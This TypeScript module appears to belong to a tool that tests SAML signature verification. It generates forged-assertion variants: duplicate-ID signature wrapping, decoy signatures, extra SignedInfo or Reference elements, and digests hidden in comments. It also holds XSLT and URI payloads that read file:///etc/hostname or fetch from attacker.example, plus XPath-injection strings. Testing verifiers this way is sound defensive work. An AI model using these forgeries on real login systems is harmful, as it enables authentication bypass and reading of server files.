/** What a signature refers to, and how: IDs, decoy signatures, SignedInfo, references and transforms (T04, T07, T08, T20, T21). */
import { type Draft, draft } from './attack.ts'
import { DS, digestOf, EVIL_ASSERTION, type Material } from './material.ts'
import { appended, before, changed, withId } from './outline.ts'
import { oddlySigned } from './signing.ts'
import { inKeyInfo, signedAs } from './wrapping.ts'

const EXCLUSIVE = 'http://www.w3.org/2001/10/xml-exc-c14n#'

export const references = (m: Material): readonly Draft[] => [
  ...twins(m),
  ...decoys(m),
  ...severalInfos(m),
  ...transforms(m),
  ...uris(m),
]

/** Two elements with one ID: which one is verified, which one is read? */
function twins(m: Material): readonly Draft[] {
  const status = `<${m.samlp}Status>`
  const drafts: Draft[] = []
  if (m.assertionSignature) {
    const twin = withId(m.forgedAssertion, m.assertionId)
    const evil = signedAs(m, twin, m.assertionSignature)
    const put = (text: string) => changed(m.xml, m.assertion, text)
    drafts.push(
      draft('T04-twin-before', 'Forged Assertion with the same ID before the signed one', () =>
        put(twin + m.assertion),
      ),
      draft('T04-twin-after', 'Forged Assertion with the same ID behind the signed one', () => put(m.assertion + twin)),
      draft('T04-twin-signature-moved', 'The signature on the forged twin, the signed one behind', () =>
        put(evil + m.bareAssertion),
      ),
      draft('T04-twin-signature-moved-before', 'The signature on the forged twin, the signed one before', () =>
        put(m.bareAssertion + evil),
      ),
      draft('T04-twin-in-key-info', 'The signature on the forged twin, the signed one in its KeyInfo', () =>
        put(signedAs(m, twin, inKeyInfo(m, m.assertionSignature, m.bareAssertion))),
      ),
      draft('T04-response-takes-id', 'The Response takes the ID of the Assertion, and its signature', () =>
        before(withId(put(m.forgedAssertion + m.bareAssertion), m.assertionId), status, m.assertionSignature),
      ),
    )
  }
  if (m.responseSignature) {
    const evil = withId(m.forgedResponse, m.responseId)
    drafts.push(
      draft('T04-response-twin', 'Forged Response with the same ID; the signed one in KeyInfo', () =>
        before(evil, status, inKeyInfo(m, m.responseSignature, m.bareResponse)),
      ),
      draft('T04-response-twin-behind', 'Forged Response with the same ID; the signed one as its last child', () =>
        appended(before(evil, status, m.responseSignature), m.bareResponse),
      ),
    )
  }
  return drafts
}

/** More than one Signature in the signed element: the enveloped transform of some libraries swallows them all. */
function decoys(m: Material): readonly Draft[] {
  const own = m.responseSignature || m.assertionSignature
  const forged = m.forgedAssertion
  const filled = appended(own, `<${m.ds}Object>${forged}</${m.ds}Object>`)
  const emptied = own.replace(new RegExp(`<${m.ds}SignedInfo.*</${m.ds}SignedInfo>`, 's'), '')
  const put = (text: string) => changed(m.xml, own, text)
  return [
    draft('T07-copy-before', 'A copy of the signature with a forged Assertion, before it', () => put(filled + own)),
    draft('T07-copy-after', 'A copy of the signature with a forged Assertion, behind it', () => put(own + filled)),
    draft('T07-same-value', 'A Signature with the same SignatureValue and a forged Assertion', () =>
      put(appended(emptied, `<${m.ds}Object>${forged}</${m.ds}Object>`) + own),
    ),
    draft('T07-empty', 'An empty second Signature', () =>
      put(`<${m.ds}Signature xmlns${m.ds ? `:${m.ds.slice(0, -1)}` : ''}="${DS}"></${m.ds}Signature>${own}`),
    ),
    draft('T07-nested', 'A copy of the signature with a forged Assertion inside the signature', () =>
      put(inKeyInfo(m, own, filled)),
    ),
  ]
}

/** A forged element, the genuine SignedInfo for the signature, and another one (or its parts) for the digest. */
function severalInfos(m: Material): readonly Draft[] {
  const { open, own, digest, id } = forgedInPlace(m)
  const info = new RegExp(`<${m.ds}SignedInfo[\\s>].*?</${m.ds}SignedInfo>`, 's').exec(own)?.[0] ?? ''
  const value = /<(?:[\w.-]+:)?DigestValue[^>]*>[^<]*/
  const reference = new RegExp(`<${m.ds}Reference[\\s>].*?</${m.ds}Reference>`, 's').exec(info)?.[0] ?? ''
  const said = (text: string, fresh: string) =>
    changed(text, value, (value.exec(text)?.[0] ?? '').replace(/>[^<]*$/, `>${fresh}`))
  const genuine = value.exec(info)?.[0].replace(/^[^>]*>/, '') ?? ''
  const lie = () => said(info, digest())
  const sign = (signature: string) => open(signature)
  const swap = (text: () => string) => () => sign(changed(own, info, text()))
  const other = () => said(reference, digest())
  const split = (text: string) => () => sign(said(own, text))
  return [
    draft(
      'T08-two-infos',
      'Forged element; the genuine SignedInfo, then one with the forged digest',
      swap(() => info + lie()),
    ),
    draft(
      'T08-two-infos-reversed',
      'Forged element; a SignedInfo with the forged digest, then the genuine one',
      swap(() => lie() + info),
    ),
    draft('T08-info-in-object', 'Forged element; the genuine SignedInfo behind, in ds:Object', () =>
      sign(appended(changed(own, info, lie()), `<${m.ds}Object>${info}</${m.ds}Object>`)),
    ),
    draft(
      'T08-two-references',
      'Forged element; a Reference with the forged digest behind the genuine one',
      swap(() => changed(info, reference, reference + other())),
    ),
    draft(
      'T08-two-references-reversed',
      'The same in the other order',
      swap(() => changed(info, reference, other() + reference)),
    ),
    draft(
      'T08-no-reference',
      'Forged element; SignedInfo without any Reference',
      swap(() => changed(info, reference, '')),
    ),
    draft('T08-forged-digest', 'Forged element and digest under the genuine SignatureValue', swap(lie)),
    draft(
      'T08-two-digests',
      'Forged element; a second DigestValue before the genuine one',
      swap(() => before(info, `<${m.ds}DigestValue>`, `<${m.ds}DigestValue>${digest()}</${m.ds}DigestValue>`)),
    ),
    draft('T09-digest-comment', 'Forged element; its digest in a comment before the genuine digest', () =>
      split(`<!--${digest()}-->${genuine}`)(),
    ),
    draft('T09-digest-comment-after', 'Forged element; its digest in a comment behind the genuine digest', () =>
      split(`${genuine}<!--${digest()}-->`)(),
    ),
    draft('T09-digest-comment-around', 'Forged element and digest; the genuine digest in a comment', () =>
      split(`<!--${genuine}-->${digest()}`)(),
    ),
    draft('T09-signature-comment', 'A comment in SignatureValue', () =>
      sign(changed(own, /(?<=SignatureValue>[^<]{8})/, '<!--AAAA-->')),
    ),
    draft(
      'T04-reference-elsewhere',
      'Forged element; the reference to it is a twin of the genuine SignedInfo in KeyInfo',
      () => sign(inKeyInfo(m, changed(own, info, lie()), info)),
    ),
    draft('T21-own-id-kept', 'Forged element with another ID under a signature that refers to nothing', () =>
      withNewId(m, sign(own), id),
    ),
  ]
}

/** The forged element standing exactly where the signed one stood, under the genuine signature. */
export function forgedInPlace(m: Material) {
  if (m.responseSignature) {
    const plain = withId(m.forgedResponse, m.responseId)
    return {
      id: m.responseId,
      own: m.responseSignature,
      digest: () => digestOf(plain, m.responseId),
      open: (signature: string) => before(plain, `<${m.samlp}Status>`, signature),
    }
  }
  const twin = withId(m.forgedAssertion, m.assertionId)
  const plain = changed(m.xml, m.assertion, twin)
  return {
    id: m.assertionId,
    own: m.assertionSignature,
    digest: () => digestOf(plain, m.assertionId),
    open: (signature: string) => changed(plain, twin, signedAs(m, twin, signature)),
  }
}

const withNewId = (_: Material, xml: string, id: string): string =>
  changed(xml, new RegExp(`(?<=\\sID=")${id}(?=")`), `${EVIL_ASSERTION}x`)

const others: Readonly<Record<string, string>> = {
  xslt: 'http://www.w3.org/TR/1999/REC-xslt-19991116',
  xpath: 'http://www.w3.org/TR/1999/REC-xpath-19991116',
  'xpath-filter': 'http://www.w3.org/2002/06/xmldsig-filter2',
  base64: `${DS}base64`,
  'inclusive-c14n': 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315',
  'c14n-11': 'http://www.w3.org/2006/12/xml-c14n11',
  'with-comments': `${EXCLUSIVE}WithComments`,
  decrypt: 'http://www.w3.org/2002/07/decrypt#XML',
  xinclude: 'http://www.w3.org/2001/XInclude',
  unknown: 'urn:example:transform',
}

/** Transforms decide what is digested: anything but enveloped signature and exclusive canonicalisation is an attack. */
function transforms(m: Material): readonly Draft[] {
  const transform = (uri: string, content = '') => `<ds:Transform Algorithm="${uri}">${content}</ds:Transform>`
  const enveloped = transform(`${DS}enveloped-signature`)
  const stylesheet =
    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">' +
    '<xsl:value-of select="document(\'file:///etc/hostname\')"></xsl:value-of></xsl:template></xsl:stylesheet>'
  const xpath = '<ds:XPath>not(ancestor-or-self::*[local-name()="Subject"])</ds:XPath>'
  const content = (name: string) => (name === 'xslt' ? stylesheet : name === 'xpath' ? xpath : '')
  const odd = (edit: (info: string) => string) => () => oddlySigned(m, edit)
  return [
    ...Object.entries(others).map(([name, uri]) =>
      draft(
        `T20-${name}`,
        `An additional transform: ${name}`,
        odd((info) => before(info, enveloped, transform(uri, content(name)))),
      ),
    ),
    draft(
      'T20-no-enveloped',
      'No enveloped-signature transform',
      odd((info) => changed(info, enveloped, '')),
    ),
    draft(
      'T20-none',
      'No transforms at all',
      odd((info) => changed(info, /<ds:Transforms>.*<\/ds:Transforms>/s, '')),
    ),
    draft(
      'T20-twice',
      'The enveloped-signature transform twice',
      odd((info) => changed(info, enveloped, enveloped + enveloped)),
    ),
    draft(
      'T20-many',
      'Thirty canonicalisations in a row',
      odd((info) => before(info, enveloped, transform(EXCLUSIVE).repeat(30))),
    ),
    draft(
      'T20-method',
      'SignedInfo canonicalised with comments',
      odd((info) =>
        changed(
          info,
          `CanonicalizationMethod Algorithm="${EXCLUSIVE}"`,
          `CanonicalizationMethod Algorithm="${EXCLUSIVE}WithComments"`,
        ),
      ),
    ),
    draft(
      'T20-method-unknown',
      'SignedInfo canonicalised by an unknown method',
      odd((info) =>
        changed(
          info,
          `CanonicalizationMethod Algorithm="${EXCLUSIVE}"`,
          'CanonicalizationMethod Algorithm="urn:example:c14n"',
        ),
      ),
    ),
  ]
}

/** References that are not "#" and the ID of the parent. */
function uris(m: Material): readonly Draft[] {
  const id = m.shape === 'response' ? m.responseId : m.assertionId
  const odd = (uri: string) => () => oddlySigned(m, (info) => changed(info, /URI="[^"]*"/, `URI="${uri}"`))
  const all: readonly (readonly [string, string, string])[] = [
    ['empty', 'The whole document, whatever it is', ''],
    ['fragment-empty', 'An empty fragment', '#'],
    ['xpointer-root', 'XPointer to the root', '#xpointer(/)'],
    ['xpointer-id', 'XPointer to the ID', `#xpointer(id('${id}'))`],
    ['external', 'A document on the network', 'https://attacker.example/signed.xml'],
    ['file', 'A file of the server', 'file:///etc/hostname'],
    ['document', 'A relative document with the ID', `other.xml#${id}`],
    ['elsewhere', 'An ID that no element has', '#_nothing'],
    ['prefix', 'The beginning of the ID', `#${id.slice(0, -1)}`],
    ['percent', 'The ID percent-encoded', `#%${id.charCodeAt(0).toString(16)}${id.slice(1)}`],
    ['space', 'The ID with a space', `# ${id}`],
    ['xpath-quote', 'An XPath expression through a quote', "#' or '1'='1"],
    ['xpath-union', 'An XPath union through a quote', "#']|//*[local-name()='Assertion"],
  ]
  return [
    ...all.map(([name, title, uri]) =>
      draft(`${name.startsWith('xpath') ? 'T34' : 'T21'}-uri-${name}`, `Reference: ${title}`, odd(uri)),
    ),
    draft('T21-uri-missing', 'A Reference without URI', () =>
      oddlySigned(m, (info) => changed(info, / URI="[^"]*"/, '')),
    ),
  ]
}
